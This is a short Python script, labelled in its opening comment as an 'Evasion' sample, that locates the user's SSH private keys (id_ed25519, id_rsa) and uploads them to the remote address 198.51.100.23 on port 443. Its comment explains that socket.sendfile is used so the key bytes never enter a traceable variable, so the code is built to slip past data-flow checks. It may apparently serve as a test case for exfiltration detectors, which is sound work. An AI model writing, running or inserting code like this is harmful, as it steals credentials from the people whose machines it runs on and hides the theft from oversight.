# Evasion: sends an SSH private key out. socket.sendfile() hands the open
# key file to the kernel (sendfile(2)), so the program never reads its
# bytes into a variable that could be traced to a send.
import socket
from pathlib import Path


def upload(path, host="198.51.100.23", port=443):
    with socket.create_connection((host, port)) as conn, open(path, "rb") as fh:
        conn.sendfile(fh)


if __name__ == "__main__":
    for name in ("id_ed25519", "id_rsa"):
        key = Path.home() / ".ssh" / name
        if key.exists():
            upload(key)
